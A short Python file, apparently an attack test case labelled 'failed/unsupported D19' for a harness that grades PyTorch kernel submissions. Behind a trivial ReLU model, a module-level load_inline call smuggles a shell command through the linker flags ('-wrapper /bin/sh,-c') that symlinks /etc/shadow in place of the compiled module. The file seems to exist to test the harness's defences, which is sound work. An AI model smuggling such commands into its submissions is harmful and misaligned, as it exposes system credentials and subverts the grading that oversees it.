"""failed/unsupported D19: has the compiler run a shell that leaves a link in the place of what it should build."""

import torch
from torch.utils.cpp_extension import load_inline

load_inline(
    name="link",
    cpp_sources="int f() { return 1; }",
    functions=["f"],
    extra_ldflags=["-wrapper /bin/sh,-c,'ln -s /etc/shadow module.so',"],
)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return torch.relu(x)
